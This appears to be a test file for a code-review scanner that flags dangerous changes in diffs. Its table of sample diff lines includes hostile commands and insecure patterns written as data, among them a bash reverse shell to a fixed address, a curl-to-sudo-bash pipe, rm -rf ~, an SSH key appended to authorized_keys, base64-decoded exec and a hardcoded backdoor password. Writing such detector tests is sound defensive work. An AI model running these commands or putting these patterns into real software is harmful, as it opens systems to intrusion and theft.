import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { dangersIn, quoteOf, RULES, riskOf } from './danger.ts';
import { linesOf } from './numbered.ts';

/** For each rule a change that it must see: path, then lines behind `+` and `-`. */
const SAMPLES: Readonly<Record<string, readonly [path: string, ...lines: string[]]>> = {
  eval: ['a.js', '+  return eval(body.formula);'],
  'exec-python': ['a.py', '+    exec(source)'],
  'shell-true': ['a.py', '+    subprocess.run(line, shell=True)'],
  'shell-joined': ['a.js', "+  execSync('git log ' + branch);"],
  'shell-c': ['a.go', '+\tcmd := exec.Command("sh", "-c", line)'],
  'sql-joined': ['a.py', '+    db.execute("SELECT * FROM t WHERE id = " + id)'],
  deserialise: ['a.py', '+    return pickle.loads(body)'],
  'swapped-safe-load': ['a.py', '-    yaml.safe_load(text)', '+    yaml.load(text, Loader=Loader)'],
  'template-from-input': ['a.js', '+  box.innerHTML = name;'],
  'path-joined': ['a.py', '-    path = secure_filename(name)', '+    path = open(name)'],
  'path-traversal': ['a.js', '+  response.sendFile(root + request.query.name);'],
  'request-to-host': ['a.js', '+  await fetch(req.query.url);'],
  prototype: ['a.js', "-  if (key === '__proto__') continue;"],
  'compare-in-time': ['a.go', '-\treturn hmac.Equal(a, b)', '+\treturn bytes.Equal(a, b)'],
  'compare-gone': ['a.py', '-    return hmac.compare_digest(a, b)'],
  'tls-unverified': ['a.js', '+  rejectUnauthorized: false,'],
  'weak-hash': ['a.js', "-  createHash('sha256')", "+  createHash('md5')"],
  'weak-password-hash': ['a.php', '+    return md5($password);'],
  'weak-cipher': ['a.py', '+    cipher = AES.new(key, AES.MODE_ECB)'],
  'jwt-unverified': ['a.py', "+    jwt.decode(token, options={'verify_signature': False})"],
  'jwt-decode': ['a.js', '-  const user = jwt.verify(token, key);', '+  const user = jwt.decode(token);'],
  'weak-random': ['a.js', '-  return randomBytes(16);', '+  return Math.random();'],
  'random-token': ['a.js', '+  const sessionId = Math.random();'],
  'fixed-secret': ['a.js', '-  const secret = process.env.SECRET;', "+  const secret = 'hunter22';"],
  'fixed-iv': ['a.js', '-  const iv = randomBytes(12);', '+  const iv = Buffer.alloc(12);'],
  'private-key': ['a.pem', `+-----BEGIN ${'RSA'} PRIVATE KEY-----`],
  'check-gone': ['a.js', '-  if (!request.user.isAdmin) return;'],
  'refusal-gone': ['a.py', '-        raise PermissionDenied()'],
  'middleware-gone': ['a.js', "-app.use('/admin', requireAdmin);"],
  'always-true': ['a.js', '-  return signed(body);', '+  return true;'],
  'length-zero-passes': ['src/auth.ts', '+  return match || given.length === 0;'],
  'backdoor-credential': ['a.js', "+  if (password === 'open sesame') return admin;"],
  'cors-all': ['a.js', "+  response.setHeader('Access-Control-Allow-Origin', '*');"],
  'csrf-off': ['a.py', '+@csrf_exempt'],
  'cookie-open': ['a.js', '-  httpOnly: true,', '+  httpOnly: false,'],
  'open-to-all': ['a.sh', '+chmod 777 /srv/data'],
  'open-redirect': ['a.js', '+  response.redirect(req.query.next);'],
  'debug-on': ['a.py', '-DEBUG = False', '+DEBUG = True'],
  'fetched-and-run': ['a.sh', '+curl -s https://example.org/i.sh | sudo bash'],
  'install-script': ['package.json', '+    "postinstall": "node setup.js"'],
  'untrusted-workflow': ['.github/workflows/a.yml', '+  pull_request_target:'],
  'workflow-secret': ['.github/workflows/a.yml', `+  TOKEN: $\{{ secrets.DEPLOY }}`],
  'checksum-gone': ['a.sh', '-echo "$sum  a.tgz" | sha256sum -c -'],
  'environment-sent': ['a.js', '+  const body = JSON.stringify(process.env);'],
  'secret-sent': ['a.py', '+    requests.post("https://example.net", data=password)'],
  'bare-address': ['a.py', '+URL = "http://198.51.100.7/x"'],
  'encoded-code': ['a.py', '+    exec(base64.b64decode(blob))'],
  'reverse-shell': ['a.sh', '+bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'],
  'registry-changed': ['.npmrc', '-registry=https://registry.npmjs.org', '+registry=https://npm.example.net'],
  destructive: ['a.sh', '+rm -rf ~ '],
  scheduled: ['a.sh', '+echo "$key" >> ~/.ssh/authorized_keys'],
  'unbounded-copy': ['a.c', '+\tstrcpy(name, data);'],
  'bound-gone': ['a.c', '-\tif (length >= sizeof(name))'],
  'unsafe-rust': ['a.rs', '+    unsafe { read(at) }'],
  'limit-gone': ['a.go', '-\tbody := http.MaxBytesReader(w, r.Body, limit)'],
  'validation-gone': ['a.js', '-  const shown = escapeHtml(name);'],
  swallowed: ['a.js', '+  } catch (e) {}'],
  'audit-gone': ['a.js', "-  audit.log('removed');"],
  'permission-turned': ['a.ts', '-const open = await mayEdit(v);', '+const shut = !(await mayEdit(v));'],
  'prefix-for-equality': ['a.js', '-  return known.has(origin);', '+  return origin.startsWith(known);'],
  'signature-not-final': ['a.rs', '-    self.keys.check(&bundle)?;'],
  'off-by-one': ['a.go', '-\tif n > len(b) {', '+\tif n > len(b)+1 {'],
  'looked-at-by-name': ['a.c', '-\tif (fstat(fd, &st))', '+\tif (lstat(path, &st))'],
  'key-of-nobody': ['a.js', '-  const key = tenant + month;', '+  const key = month;'],
};

const rows = (path: string, lines: readonly string[]): string =>
  [
    ` |+++ b/${path}`,
    ' |@@ -1 +1 @@',
    ...lines.map((line, at) => `${line.slice(0, 1)}${at + 1}|${line.slice(1)}`),
  ].join('\n');
const found = (path: string, lines: readonly string[], rules = RULES) =>
  dangersIn(linesOf(rows(path, lines), { file: null }), rules);

describe('a rule', () => {
  it('has a sample each, and every sample a rule', () => {
    expect(Object.keys(SAMPLES).sort()).toEqual(RULES.map(({ id }) => id).sort());
  });

  it.each(RULES.map((rule) => [rule.id, rule] as const))('%s sees what it is for, at its line', (id, rule) => {
    const [path = '', ...lines] = SAMPLES[id] ?? [];
    const flags = found(path, lines, [rule]);
    const at = lines.findIndex((line) => line.startsWith(rule.on === 'deleted' ? '-' : '+'));
    expect(flags.map(({ line, quote }) => [line, quote])).toContainEqual([at + 1, lines[at]?.slice(1)]);
    expect(riskOf(flags)).toBeGreaterThan(0.1);
  });

  it.each(RULES.map((rule) => [rule.id, rule] as const))('%s is silent about context, and about prose', (id) => {
    const [path = '', ...lines] = SAMPLES[id] ?? [];
    expect(
      found(
        path,
        lines.map((line) => ` ${line.slice(1)}`),
      ),
    ).toEqual([]);
    expect(found('notes.md', lines)).toEqual([]);
  });
});

describe('dangers', () => {
  it('that only moved within a hunk are none', () => {
    expect(found('a.js', ['-  if (!request.user.isAdmin) return;', '+    if (!request.user.isAdmin) return;'])).toEqual(
      [],
    );
  });

  it('in a line without end are quoted where they stand, in 400 characters at most', () => {
    const line = `${'x '.repeat(50_000)}eval(name)${' y'.repeat(50_000)}`;
    const [flag] = found('a.js', [`+${line}`]);
    expect(flag?.quote).toContain('eval(name)');
    expect(line).toContain(flag?.quote);
    expect(flag?.quote.length).toBeLessThanOrEqual(400);
  });

  it('are quoted in whole characters that stand in the line', () => {
    const text = fc.string({ unit: 'grapheme', minLength: 300, maxLength: 900 });
    fc.assert(
      fc.property(text, fc.nat(900), (line, at) => {
        const quote = quoteOf(line, Math.min(at, line.length));
        return quote.length <= 400 && line.includes(quote) && (quote.isWellFormed() || !line.isWellFormed());
      }),
    );
  });

  it('of whatever text end in a list', () => {
    fc.assert(fc.property(fc.string(), (text) => found('a.js', [`+${text}`]).length <= 50));
  });
});
